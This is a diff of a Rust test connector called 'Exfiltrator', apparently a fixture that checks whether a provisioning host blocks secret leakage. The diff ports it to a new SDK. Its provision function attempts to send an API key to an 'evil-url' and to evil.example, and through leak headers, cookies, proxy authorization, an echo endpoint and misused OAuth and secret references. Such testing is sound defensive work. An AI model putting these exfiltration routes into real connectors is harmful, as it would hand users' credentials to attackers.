@@ -17,41 +17,25 @@
 //! The change itself is ignored. `provision-batch` (`max-batch-size` 1) applies `provision` to each
 //! change in order; `list-entities` answers `unsupported`.
 
-wit_bindgen::generate!({ path: "../../../wit/v0.2", world: "connector" });
+use provisioner_sdk::prelude::*;
+use provisioner_sdk::{ClientCredentialsGrant, HttpError, OauthGrant, SecretHeader};
 
-use exports::provisioning::connector::provisioning::Guest;
-use provisioning::connector::http::{self, *};
-use provisioning::connector::types::{
-    Change, ConfigProblem, ConfigProperty, ConfigValue, ConnectorConfig, ConnectorMetadata,
-    EntityKind, ErrorDetail, ListRequest, LookupKey, PropertyKind, ProvisionError,
-    ProvisionOutcome, RemoteObject, RemotePage,
-};
-
-struct Exfiltrator;
+/// The connector.
+pub struct Exfiltrator;
 
 fn property(key: &str, kind: PropertyKind, required: bool, secret: bool) -> ConfigProperty {
-    ConfigProperty {
-        key: key.into(),
-        label: key.into(),
-        description: format!("Test property {key}."),
-        kind,
-        required,
-        secret,
-        default_value: None,
-        options: vec![],
-    }
+    let mut property = ConfigProperty::new(key, kind).description(&format!("Test property {key}."));
+    property.required = required;
+    property.secret = secret;
+    property
 }
 
-fn text(config: &ConnectorConfig, key: &str) -> String {
-    config
-        .entries
-        .iter()
-        .find(|e| e.key == key)
-        .and_then(|e| match &e.value {
-            ConfigValue::Text(t) => Some(t.clone()),
-            _ => None,
-        })
-        .unwrap_or_default()
+/// The text of `key` exactly as configured, empty when unset.
+fn text(cx: &Context, key: &str) -> String {
+    match cx.config().get(key) {
+        Some(ConfigValue::Text(t)) => t.clone(),
+        _ => String::new(),
+    }
 }
 
 fn api_key() -> SecretRef {
@@ -95,41 +79,35 @@ fn describe(result: Result<Response, HttpError>) -> String {
     }
 }
 
-impl Guest for Exfiltrator {
+impl Connector for Exfiltrator {
     fn metadata() -> ConnectorMetadata {
-        ConnectorMetadata {
-            id: "exfiltrator".into(),
-            name: "Exfiltrator".into(),
-            version: "0.1.0".into(),
-            description: "Tries to leak its secrets.".into(),
-            entity_kinds: vec![EntityKind::User],
-            properties: vec![
-                property("endpoint", PropertyKind::Url, true, false),
-                property("api-key", PropertyKind::Text, true, true),
-                property("evil-url", PropertyKind::Text, false, false),
-            ],
-            max_batch_size: 1,
-        }
+        ConnectorMetadata::new(
+            "exfiltrator",
+            "Exfiltrator",
+            "0.1.0",
+            "Tries to leak its secrets.",
+        )
+        .property(property("endpoint", PropertyKind::Url, true, false))
+        .property(property("api-key", PropertyKind::Text, true, true))
+        .property(property("evil-url", PropertyKind::Text, false, false))
     }
 
-    fn validate(_config: ConnectorConfig) -> Vec<ConfigProblem> {
+    fn validate(_config: &ConnectorConfig) -> Vec<ConfigProblem> {
         vec![]
     }
 
-    fn provision(
-        config: ConnectorConfig,
-        _change: Change,
-    ) -> Result<ProvisionOutcome, ProvisionError> {
-        let endpoint = text(&config, "endpoint");
+    fn provision(cx: &Context, _change: &Change) -> Result<ProvisionOutcome, ProvisionError> {
+        let http = cx.host();
+        let endpoint = text(cx, "endpoint");
         let endpoint = endpoint.trim_end_matches('/');
-        let evil = text(&config, "evil-url");
+        let evil = text(cx, "evil-url");
         let mut seen = Vec::new();
         let mut attempt = |tag: &str, result: String| seen.push(format!("{tag}={result}"));
 
         // (a) A secret credential to a destination that is not a configured endpoint.
         attempt(
             "a-bearer-evil",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Post,
                 &evil,
                 &[],
@@ -139,7 +117,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "a-header-evil",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &evil,
                 &[],
@@ -155,7 +133,7 @@ impl Guest for Exfiltrator {
         let collect = format!("{endpoint}/collect");
         attempt(
             "b-keyname",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Post,
                 &collect,
                 &[("x-leak", "api-key")],
@@ -165,7 +143,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "b-authz",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[("Authorization", "Bearer api-key")],
@@ -175,7 +153,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "b-cookie",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[("Cookie", "api-key")],
@@ -185,7 +163,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "b-host",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[("Host", "evil.example")],
@@ -195,7 +173,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "b-proxy",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[("Proxy-Authorization", "Basic eA==")],
@@ -206,7 +184,7 @@ impl Guest for Exfiltrator {
         let echo = format!("{endpoint}/echo");
         attempt(
             "b-echo",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &echo,
                 &[],
@@ -224,7 +202,7 @@ impl Guest for Exfiltrator {
         });
         attempt(
             "c-oauth-evil",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[],
@@ -234,7 +212,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "c-ref-nonsecret",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[],
@@ -246,7 +224,7 @@ impl Guest for Exfiltrator {
         );
         attempt(
             "c-ref-unknown",
-            describe(http::send(&request(
+            describe(http.send(&request(
                 Method::Get,
                 &collect,
                 &[],
@@ -301,35 +279,13 @@ impl Guest for Exfiltrator {
         })
     }
 
-    fn provision_batch(
-        config: ConnectorConfig,
-        changes: Vec<Change>,
-    ) -> Vec<Result<ProvisionOutcome, ProvisionError>> {
-        changes
-            .into_iter()
-            .map(|change| Self::provision(config.clone(), change))
-            .collect()
-    }
-
-    fn lookup(
-        _config: ConnectorConfig,
-        _key: LookupKey,
-    ) -> Result<Option<RemoteObject>, ProvisionError> {
+    fn lookup(_cx: &Context, _key: &LookupKey) -> Result<Option<RemoteObject>, ProvisionError> {
         Ok(None)
     }
 
-    fn list_entities(
-        _config: ConnectorConfig,
-        _request: ListRequest,
-    ) -> Result<RemotePage, ProvisionError> {
-        Err(ProvisionError::Unsupported(ErrorDetail {
-            message: "exfiltrator cannot list entities".into(),
-            target_code: None,
-            fields: vec![],
-            http_status: None,
-        }))
+    fn list_entities(_cx: &Context, _request: &ListRequest) -> Result<RemotePage, ProvisionError> {
+        Err(error::unsupported("exfiltrator cannot list entities"))
     }
 }
 
-#[cfg(target_arch = "wasm32")]
-export!(Exfiltrator);
+provisioner_sdk::export_connector!(Exfiltrator);
